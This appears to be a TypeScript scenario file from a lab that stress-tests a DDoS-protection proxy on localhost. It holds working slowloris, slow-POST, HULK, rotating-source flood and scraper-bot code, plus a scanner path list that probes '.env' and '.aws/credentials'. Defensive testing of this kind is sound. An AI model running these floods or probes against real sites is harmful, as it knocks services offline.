// The attack scenarios: each a named, parameterised function. Attackers use
// their own address range (one second octet per scenario, 127.200 and up).
// Every loop is bounded by the scenario's end time and by an in-flight cap;
// every target is 127.0.0.1.
import http from 'node:http';
import net from 'node:net';
import { attackAddress, at, bucketOf, emptyAttackSecond, pick, rand, sleep, SITE_HOST, USER_AGENTS, API_USER_AGENTS, PAGES, type AttackSecond } from './common.ts';

export interface AttackContext {
  /** Where requests go; changes when a proxy is started mid-attack (attacker.ts gets {cmd:'port'}). */
  port: number;
  t0: number;
  /** Absolute ms (Date.now()) when the attack stops. */
  endAt: number;
  seconds: AttackSecond[];
  /** Sources the target visibly refused (403/429, refused or reset connections). */
  blocked: Set<string>;
  sources: Set<string>;
  note: string[];
}

type Outcome = 'ok' | 'limited' | 'other' | 'error';
const now = (ctx: AttackContext) => at(ctx.seconds, Math.max(0, bucketOf(ctx.t0)), emptyAttackSecond);
const refusals = new Map<string, number>();

function count(ctx: AttackContext, addr: string, o: Outcome, code?: string): void {
  const s = now(ctx);
  if (o === 'ok') s.ok++; else if (o === 'limited') s.limited++; else if (o === 'error') s.errors++; else s.other++;
  if (o === 'limited' || (o === 'error' && (code === 'ECONNREFUSED' || code === 'ECONNRESET' || code === 'EPIPE'))) {
    const n = (refusals.get(addr) ?? 0) + 1;
    refusals.set(addr, n);
    if (n >= 3) ctx.blocked.add(addr);
  }
}

interface Hit { addr: string; agent: http.Agent | false; method?: string; path: string; headers?: http.OutgoingHttpHeaders; body?: Buffer | string; timeoutMs?: number; follow?: number; jar?: Map<string, string> }

/** One request (following redirects when follow > 0; keeping cookies in `jar` when there is one). */
function hit(ctx: AttackContext, h: Hit): Promise<Outcome> {
  ctx.sources.add(h.addr);
  now(ctx).sent++;
  return new Promise((resolve) => {
    let done = false;
    const finish = (o: Outcome, code?: string) => { if (done) return; done = true; count(ctx, h.addr, o, code); resolve(o); };
    const headers: http.OutgoingHttpHeaders = { host: SITE_HOST, ...h.headers };
    if (h.jar?.size) headers.cookie = [...h.jar].map(([k, v]) => `${k}=${v}`).join('; ');
    const req = http.request({ host: '127.0.0.1', port: ctx.port, method: h.method ?? 'GET', path: h.path, agent: h.agent, localAddress: h.agent ? undefined : h.addr, headers }, (res) => {
      if (h.jar) for (const c of res.headers['set-cookie'] ?? []) { const [kv] = c.split(';'); const i = kv.indexOf('='); if (i > 0) h.jar.set(kv.slice(0, i).trim(), kv.slice(i + 1).trim()); }
      res.resume();
      res.on('end', () => {
        const st = res.statusCode ?? 0;
        if (st >= 300 && st < 400 && res.headers.location && (h.follow ?? 0) > 0) {
          done = true;
          const next = new URL(res.headers.location, `http://${SITE_HOST}${h.path}`);
          hit(ctx, { ...h, path: next.pathname + next.search, follow: h.follow! - 1, method: 'GET', body: undefined }).then(resolve);
          return;
        }
        // A redirect still unanswered after the follow budget: the bot did not get the page.
        const exhausted = st >= 300 && st < 400 && h.follow !== undefined;
        finish(st === 403 || st === 429 ? 'limited' : st < 400 && !exhausted ? 'ok' : 'other');
      });
      res.on('error', () => finish('error'));
    });
    req.setTimeout(h.timeoutMs ?? 5000, () => req.destroy(Object.assign(new Error('timeout'), { code: 'TIMEOUT' })));
    req.on('error', (e: NodeJS.ErrnoException) => finish('error', e.code));
    req.end(h.body);
  });
}

/** Open-loop pacing at `rate` per second, at most `maxInflight` at once, until ctx.endAt. */
async function paced(ctx: AttackContext, rate: number, maxInflight: number, fire: (n: number) => Promise<unknown>): Promise<void> {
  let inflight = 0, n = 0, budget = 0, last = Date.now();
  const pending = new Set<Promise<unknown>>();
  while (Date.now() < ctx.endAt) {
    const t = Date.now();
    budget = Math.min(budget + ((t - last) / 1000) * rate, Math.max(1, rate / 20));
    last = t;
    while (budget >= 1 && inflight < maxInflight) {
      budget--; inflight++;
      const p: Promise<unknown> = fire(n++).catch(() => {}).finally(() => { inflight--; pending.delete(p); });
      pending.add(p);
    }
    await sleep(5);
  }
  await Promise.race([Promise.all(pending), sleep(1000)]);
}

const agents = (ctx: AttackContext, addrs: string[], maxSockets: number) => {
  const m = addrs.map((a) => new http.Agent({ keepAlive: true, maxSockets, localAddress: a }));
  setTimeout(() => m.forEach((a) => a.destroy()), Math.max(0, ctx.endAt - Date.now() + 1500)).unref();
  return m;
};
const randStr = (n: number) => Math.random().toString(36).slice(2, 2 + n);
const browserHeaders = (ua: string): http.OutgoingHttpHeaders => ({
  'user-agent': ua, accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'accept-language': 'en-US,en;q=0.9', 'accept-encoding': 'gzip, deflate, br', 'upgrade-insecure-requests': '1',
  'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate', 'sec-fetch-site': 'none',
});

/** Legitimate groups a scenario adds to the browser users (legit.ts). */
export interface LegitExtras { natUsers?: number; crowdUsers?: number; apiClients?: number }

export interface Scenario<P> {
  describe: string;
  octet: number;
  /** Legitimate traffic besides the browser users: NAT, flash crowd, API clients. */
  legit?: LegitExtras;
  /** Legit-only seconds before the attack, when not the run's (0: the attack starts with the users, on a proxy with no history). */
  warmupS?: number;
  /** The attack's length, when not the run's (--attack overrides it). */
  attackS?: number;
  /** When set, the lab reports legit success per group and this scenario's special targets. Param `lateStartS` in
   *  the defaults starts each target that many seconds into the attack (traffic goes to the origin until then). */
  defaults: P;
  /** Scales the defaults down for --smoke. */
  smoke?: Partial<P>;
  run(ctx: AttackContext, p: P): Promise<void>;
}

function scenario<P>(s: Scenario<P>): Scenario<P> { return s; }

/** The connections a slow attack keeps open, and how many are connected now. */
interface Trickles { socks: Set<net.Socket>; open: number }

/**
 * One slow connection from `addr`: writes `head()`, then `next()` every
 * intervalMs, never finishing; reopened 100 ms after the target closes it,
 * until the attack ends. A close soon after opening counts as a refusal.
 */
function trickle(ctx: AttackContext, addr: string, t: Trickles, head: () => string, next: () => string, intervalMs: number): void {
  if (Date.now() >= ctx.endAt) return;
  ctx.sources.add(addr);
  now(ctx).sent++;
  const opened = Date.now();
  const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
  t.socks.add(s);
  let timer: NodeJS.Timeout | null = null;
  s.on('connect', () => {
    t.open++;
    s.write(head());
    timer = setInterval(() => s.write(next()), intervalMs);
  });
  s.on('data', () => {});
  s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
  s.on('close', (hadError) => {
    if (timer) { clearInterval(timer); t.open--; }
    t.socks.delete(s);
    if (!hadError) count(ctx, addr, Date.now() - opened < 1000 ? 'error' : 'other', 'ECONNRESET');
    if (Date.now() < ctx.endAt) setTimeout(() => trickle(ctx, addr, t, head, next, intervalMs), 100);
  });
}

export const SCENARIOS = {
  flood: scenario({
    describe: 'per-source flood: a few sources, keep-alive, pages as fast as allowed',
    octet: 200,
    defaults: { sources: 10, rate: 3000, connsPerSource: 32 },
    async run(ctx, p) {
      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
      const ag = agents(ctx, addrs, p.connsPerSource);
      await paced(ctx, p.rate, p.sources * p.connsPerSource, (n) => hit(ctx, { addr: addrs[n % addrs.length], agent: ag[n % addrs.length], path: pick(PAGES), headers: { 'user-agent': USER_AGENTS[0], accept: '*/*' } }));
    },
  }),
  hulk: scenario({
    describe: 'HULK-style cache-busting: random query strings and User-Agents, a new connection per request',
    octet: 201,
    defaults: { sources: 20, rate: 1500, maxInflight: 400 },
    async run(ctx, p) {
      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
      await paced(ctx, p.rate, p.maxInflight, (n) => hit(ctx, {
        addr: addrs[n % addrs.length], agent: false, path: `/?${randStr(4)}=${randStr(8)}`,
        headers: { 'user-agent': `${pick(USER_AGENTS)} ${randStr(6)}`, 'cache-control': 'no-cache', referer: `http://www.google.com/?q=${randStr(10)}`, 'keep-alive': String(110 + rand(10)), connection: 'close' },
      }));
    },
  }),
  'low-and-slow': scenario({
    describe: 'low-and-slow distributed flood on the expensive search: thousands of sources, each a request every 2 s',
    octet: 202,
    defaults: { sources: 2000, perSourceRate: 0.5 },
    smoke: { sources: 600 },
    async run(ctx, p) {
      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
      const ag = agents(ctx, addrs, 1);
      await paced(ctx, p.sources * p.perSourceRate, p.sources, (n) => {
        const i = n % addrs.length;
        return hit(ctx, { addr: addrs[i], agent: ag[i], path: `/search?q=${pick(['shoes', 'gift', 'sale', 'dress'])}+${randStr(3)}`, headers: browserHeaders(USER_AGENTS[i % USER_AGENTS.length]) });
      });
    },
  }),
  slowloris: scenario({
    describe: 'slowloris: many connections, each sending a header line every few seconds, never finishing the request',
    octet: 203,
    defaults: { sources: 50, connsPerSource: 24, headerIntervalMs: 4000 },
    async run(ctx, p) {
      const t: Trickles = { socks: new Set(), open: 0 };
      const head = () => `GET /?${randStr(6)} HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nAccept-Language: en-US,en;q=0.5\r\n`;
      const next = () => `X-${randStr(4)}: ${randStr(6)}\r\n`;
      for (let i = 0; i < p.sources; i++) for (let k = 0; k < p.connsPerSource; k++) setTimeout(() => trickle(ctx, attackAddress(this.octet, i), t, head, next, p.headerIntervalMs), rand(1000));
      while (Date.now() < ctx.endAt) { now(ctx).open = t.open; await sleep(200); }
      for (const s of t.socks) s.destroy();
    },
  }),
  'slow-post': scenario({
    describe: 'slow POST (a big Content-Length, 10 bytes a second) plus a large-body POST flood on /login',
    octet: 204,
    defaults: { slowSources: 20, slowConnsPerSource: 10, declaredBytes: 100_000, bytesPerSecond: 10, largeSources: 10, largeRate: 40, largeBytes: 2_000_000 },
    async run(ctx, p) {
      const t: Trickles = { socks: new Set(), open: 0 };
      const head = () => `POST /login HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${p.declaredBytes}\r\n\r\nuser=`;
      const next = () => 'a'.repeat(p.bytesPerSecond);
      for (let i = 0; i < p.slowSources; i++) for (let k = 0; k < p.slowConnsPerSource; k++) setTimeout(() => trickle(ctx, attackAddress(this.octet, i), t, head, next, 1000), rand(1000));
      const big = Buffer.alloc(p.largeBytes, 'x');
      const addrs = Array.from({ length: p.largeSources }, (_, i) => attackAddress(this.octet, 1000 + i));
      const ag = agents(ctx, addrs, 4);
      const flood = paced(ctx, p.largeRate, p.largeSources * 4, (n) => hit(ctx, {
        addr: addrs[n % addrs.length], agent: ag[n % addrs.length], method: 'POST', path: '/login', body: big,
        headers: { 'user-agent': pick(USER_AGENTS), 'content-type': 'application/x-www-form-urlencoded', 'content-length': big.length },
      }));
      while (Date.now() < ctx.endAt) { now(ctx).open = t.open; await sleep(200); }
      await flood;
      for (const s of t.socks) s.destroy();
    },
  }),
  'browser-bot': scenario({
    describe: 'browser-mimicking bot: browser headers, fetches the page and its assets, no think time, keeps no cookies; a share of its pages are searches (a scraper), so that it hurts the origin',
    octet: 205,
    // 400 pages/s, a fifth of them searches: 80 × 120 ms of search alone is more than the origin's 8 slots can give.
    defaults: { sources: 30, pageRate: 400, connsPerSource: 6, searchShare: 0.2 },
    async run(ctx, p) {
      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
      const ag = agents(ctx, addrs, p.connsPerSource);
      const assets = ['/static/site.css', '/static/app.js', '/static/logo.png', '/static/hero.png', '/favicon.ico'];
      await paced(ctx, p.pageRate, p.sources * p.connsPerSource, async (n) => {
        const i = n % addrs.length, ua = USER_AGENTS[i % USER_AGENTS.length];
        const page = Math.random() < p.searchShare ? `/search?q=${pick(['shoes', 'gift', 'sale', 'dress', 'jacket'])}` : pick(PAGES);
        const o = await hit(ctx, { addr: addrs[i], agent: ag[i], path: page, headers: browserHeaders(ua), follow: 2 });
        if (o !== 'ok') return;
        await Promise.all(assets.map((a) => hit(ctx, { addr: addrs[i], agent: ag[i], path: a, headers: { ...browserHeaders(ua), accept: '*/*', 'sec-fetch-dest': 'image', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin', referer: `http://${SITE_HOST}${page}` } })));
      });
    },
  }),
  rotating: scenario({
    describe: 'rotating sources: each address sends a handful of page requests and is never seen again',
    octet: 206,
    defaults: { rate: 1000, requestsPerSource: 5, maxInflight: 400 },
    async run(ctx, p) { await rotate(ctx, p, this.octet, pageHit); },
  }),
  'mid-attack': scenario({
    describe: 'proxy started during the attack: a rotating flood hits the unprotected origin, the target is put in front 4 s into it (no warm-up, no history)',
    octet: 209,
    warmupS: 2,
    defaults: { rate: 1000, requestsPerSource: 5, maxInflight: 400, lateStartS: 4 },
    smoke: { lateStartS: 2 },
    async run(ctx, p) { await rotate(ctx, p, this.octet, pageHit); },
  }),
  'rotating-cold': scenario({
    describe: 'rotating sources with no warm-up: the flood starts with the users, on a proxy with no history at all',
    octet: 210,
    warmupS: 0,
    defaults: { rate: 1000, requestsPerSource: 5, maxInflight: 400 },
    async run(ctx, p) { await rotate(ctx, p, this.octet, pageHit); },
  }),
  'patient-bots': scenario({
    describe: 'patient browser-perfect bots: each a browser (assets once, cookie jar, redirects followed, browser headers) navigating about five times faster than a person, mostly on the expensive search',
    octet: 211,
    // A patient swarm is a long attack, and a ban by share needs the share to persist (banAfterSeconds, 25 s).
    attackS: 60,
    // A person thinks 1–3.5 s between pages (legit.ts); a bot 0.2–0.7 s. 150 bots × ~2 pages/s, 70% searches: far more than 8 slots.
    defaults: { bots: 150, thinkMinMs: 200, thinkSpreadMs: 500, searchShare: 0.7 },
    smoke: { bots: 80 },
    async run(ctx, p) {
      const assets = ['/static/site.css', '/static/app.js', '/static/logo.png', '/static/hero.png', '/favicon.ico'];
      const bot = async (i: number) => {
        const addr = attackAddress(this.octet, i), ua = USER_AGENTS[i % USER_AGENTS.length];
        const agent = new http.Agent({ keepAlive: true, maxSockets: 4, localAddress: addr });
        const jar = new Map<string, string>();
        let cached = false, referer: string | null = null;
        await sleep(rand(1500));
        while (Date.now() < ctx.endAt) {
          const page = Math.random() < p.searchShare ? `/search?q=${encodeURIComponent(pick(['shoes', 'red dress', 'gift', 'sale', 'jacket', 'socks']))}+${randStr(2)}` : pick(PAGES);
          const h = browserHeaders(ua);
          if (referer) { h.referer = `http://${SITE_HOST}${referer}`; h['sec-fetch-site'] = 'same-origin'; }
          const o = await hit(ctx, { addr, agent, path: page, headers: h, follow: 3, jar });
          if (o === 'ok' && !cached) {
            await Promise.all(assets.map((a) => hit(ctx, { addr, agent, path: a, jar, headers: { ...browserHeaders(ua), accept: '*/*', 'sec-fetch-dest': 'image', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin', referer: `http://${SITE_HOST}${page}` } })));
            cached = true;
          }
          referer = page.split('?')[0];
          await sleep(Math.min(p.thinkMinMs + rand(p.thinkSpreadMs), Math.max(0, ctx.endAt - Date.now())));
        }
        agent.destroy();
      };
      await Promise.all(Array.from({ length: p.bots }, (_, i) => bot(i)));
    },
  }),
  nat: scenario({
    describe: 'people behind one NAT: 40 browser users share one address, next to a rotating flood',
    octet: 212,
    legit: { natUsers: 40 },
    defaults: { rate: 600, requestsPerSource: 5, maxInflight: 300 },
    async run(ctx, p) { await rotate(ctx, p, this.octet, pageHit); },
  }),
  'api-clients': scenario({
    describe: 'cookie-less API clients (JSON, no cookie jar, no redirects) next to a rotating flood that copies their headers on the expensive /api/search',
    octet: 213,
    legit: { apiClients: 40 },
    defaults: { rate: 600, requestsPerSource: 5, maxInflight: 300 },
    async run(ctx, p) { await rotate(ctx, p, this.octet, apiHit); },
  }),
  'flash-crowd': scenario({
    describe: 'flash crowd, no attack: 300 new visitors (new addresses, no history) arrive within 3 s of the "attack" start and browse',
    octet: 214,
    legit: { crowdUsers: 300 },
    defaults: { crowdUsers: 300 },
    smoke: { crowdUsers: 150 },
    async run(ctx) { await sleep(Math.max(0, ctx.endAt - Date.now())); ctx.note.push('no attack'); },
  }),
  'scan-404': scenario({
    describe: '404 scanning: a vulnerability scanner walking a word list of paths that do not exist',
    octet: 208,
    defaults: { sources: 20, rate: 1500, connsPerSource: 4 },
    async run(ctx, p) {
      const words = ['wp-admin', 'wp-login.php', '.env', '.git/config', 'phpmyadmin', 'admin', 'backup.zip', 'config.php', 'server-status', 'xmlrpc.php', 'cgi-bin/test.cgi', 'vendor/phpunit', 'actuator/health', 'api/v1/debug', 'old', 'test', 'db.sql', '.aws/credentials'];
      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
      const ag = agents(ctx, addrs, p.connsPerSource);
      await paced(ctx, p.rate, p.sources * p.connsPerSource, (n) => hit(ctx, { addr: addrs[n % addrs.length], agent: ag[n % addrs.length], path: `/${pick(words)}${n % 3 ? '' : '/' + randStr(5)}`, headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', accept: '*/*' } }));
    },
  }),
} satisfies Record<string, Scenario<never> | Scenario<any>>; // eslint-disable-line @typescript-eslint/no-explicit-any

export type ScenarioName = keyof typeof SCENARIOS;

type Maker = (ctx: AttackContext, addr: string, agent: http.Agent, n: number) => Promise<Outcome>;
const pageHit: Maker = (ctx, addr, agent, n) => hit(ctx, { addr, agent, path: pick(PAGES), headers: browserHeaders(USER_AGENTS[n % USER_AGENTS.length]) });
/** Copies the lab's API clients (legit.ts): JSON, an app's User-Agent, no cookies; on the expensive search mostly. */
const apiHit: Maker = (ctx, addr, agent, n) => hit(ctx, {
  addr, agent, path: Math.random() < 0.8 ? `/api/search?q=${randStr(5)}` : `/api/products/${1 + rand(40)}`,
  headers: { 'user-agent': API_USER_AGENTS[n % API_USER_AGENTS.length], accept: 'application/json', 'accept-encoding': 'gzip' },
});

/** Rotating sources: each address sends requestsPerSource requests (keep-alive, 2 connections) and is never seen again. */
async function rotate(ctx: AttackContext, p: { rate: number; requestsPerSource: number; maxInflight: number }, octet: number, make: Maker): Promise<void> {
  let srcNo = -1, left = 0;
  let agent: http.Agent | null = null, addr = '';
  const all: http.Agent[] = [];
  await paced(ctx, p.rate, p.maxInflight, (n) => {
    if (left === 0) {
      srcNo++; left = p.requestsPerSource; addr = attackAddress(octet, srcNo);
      const old = agent; if (old) setTimeout(() => old.destroy(), 3000);
      agent = new http.Agent({ keepAlive: true, maxSockets: 2, localAddress: addr }); all.push(agent);
    }
    left--;
    return make(ctx, addr, agent!, n);
  });
  for (const a of all) a.destroy();
  ctx.note.push(`${srcNo + 1} distinct addresses`);
}
